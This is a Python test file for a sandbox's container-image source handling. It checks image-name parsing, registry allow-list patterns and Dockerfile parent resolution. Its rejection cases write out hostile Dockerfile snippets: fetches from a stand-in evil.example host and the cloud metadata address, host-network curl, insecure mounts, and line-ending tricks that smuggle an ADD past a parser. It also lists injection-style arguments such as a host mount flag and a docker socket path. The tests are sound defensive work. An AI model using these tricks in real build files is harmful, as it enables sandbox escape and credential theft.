"""What an operator may write as an image, and what a repository may choose."""

from __future__ import annotations

from pathlib import Path

import pytest

from sandbox.errors import ImageError
from sandbox.images.dockerfile import parents_of
from sandbox.images.sources import Archive, Dockerfile, Folder, Reference, allowed, source_of


def test_an_operator_names_an_image_or_a_path() -> None:
    assert source_of("registry.example:5000/team/image:1@sha256:00") == Reference(
        name="registry.example:5000/team/image:1@sha256:00"
    )
    assert source_of("/srv/py/Dockerfile") == Dockerfile(file="Dockerfile", folder=Path("/srv/py"))
    assert source_of("/srv/py.Dockerfile") == Dockerfile(file="py.Dockerfile", folder=Path("/srv"))
    assert source_of("/srv/image.tar.gz") == Archive(path=Path("/srv/image.tar.gz"))
    assert source_of("/srv/root") == Folder(path=Path("/srv/root"))
    for odd in ("", "-v/:/host", "a b", "../x", "name\n", "a" * 300, "unix:///run/docker.sock", "x/../../y"):
        with pytest.raises(ImageError, match="no image name"):
            source_of(odd)


@pytest.mark.parametrize(
    ("name", "patterns", "fits"),
    [
        ("python:3.12", ("python:*",), True),
        ("python.evil.example/x:1", ("python*",), False),
        ("python", ("python:*",), False),
        ("registry.example/team/image:1", ("registry.example/team/*",), True),
        ("registry.example/team/deep/image:1", ("registry.example/team/*",), False),
        ("registry.example.evil/team/image", ("registry.example/team/*",), False),
        ("evil/registry.example/team", ("registry.example/team/*",), False),
        ("anything", (), False),
        ("PYTHON:3", ("python:*",), False),
    ],
)
def test_a_pattern_stays_within_its_slashes(name: str, patterns: tuple[str, ...], fits: bool) -> None:
    assert allowed(name, patterns) is fits


PLAIN = """# syntax is only a comment after the first instruction
ARG BASE=python:3.11
FROM ${BASE} AS build
RUN pip install \\
    # a comment in between
    one two
COPY --chown=1:1 req.txt /x
FROM scratch
COPY --from=build /x /y
COPY --from=0 /x /z
ENV A=b
"""


def test_a_dockerfile_tells_what_it_stands_on() -> None:
    assert parents_of(PLAIN.partition("\n")[2], {}) == ("python:3.11",)
    assert parents_of(PLAIN.partition("\n")[2], {"BASE": "other:1"}) == ("other:1",)
    assert parents_of("FROM a\r\nRUN x\r\nFROM A:2 AS b\nFROM b\n", {}) == ("a", "A:2")


@pytest.mark.parametrize(
    "text",
    [
        "FROM a\nADD http://169.254.169.254/latest/meta-data /x",
        "FROM a\nADD https://evil.example/x /x",
        "FROM a\nADD git@evil.example:x/y.git /x",
        "FROM a\nADD --checksum=sha256:0 https://evil.example/x /x",
        'FROM a\nADD ["http://evil.example/x", "/x"]',
        "FROM a\nARG U=http://evil.example\nADD $U /x",
        "FROM a\nADD \\\n http://evil.example/x /x",
        "FROM a\nCOPY --from=evil.example/image:1 / /x",
        "FROM a\nRUN --mount=type=bind,from=evil.example/image,target=/x true",
        "FROM a\nRUN --network=host curl http://127.0.0.1",
        "FROM a\nRUN --security=insecure true",
        "FROM a\nONBUILD ADD http://evil.example/x /x",
        "FROM a\nHEALTHCHECK CMD curl http://x",
        "# syntax=evil.example/frontend:1\nFROM a",
        "# escape=`\nFROM a\nRUN x \\\nADD http://evil.example/x /x",
        "FROM a\nRUN x \\\u00a0\nADD http://evil.example/x /x",  # a blank that ends a line to us and not to the engine
        "FROM a\nRUN x\rADD http://evil.example/x /x",
        "FROM a\nRUN x\x0bADD http://evil.example/x /x",
        "FROM a\nRUN <<EOF\nADD\nEOF",
        "FROM a\nCOPY <<EOF /x\nhi\nEOF",
        "FROM --platform=linux/evil a",
        "FROM $UNKNOWN",
        "FROM a${UNKNOWN:+b}",
        "RUN true",
        "",
        "FROM a\nWHATEVER x",
        "FROM a\n" + "#" * 70000,
    ],
)
def test_a_repositorys_dockerfile_reaches_nothing_but_itself(text: str) -> None:
    with pytest.raises(ImageError):
        parents_of(text, {})
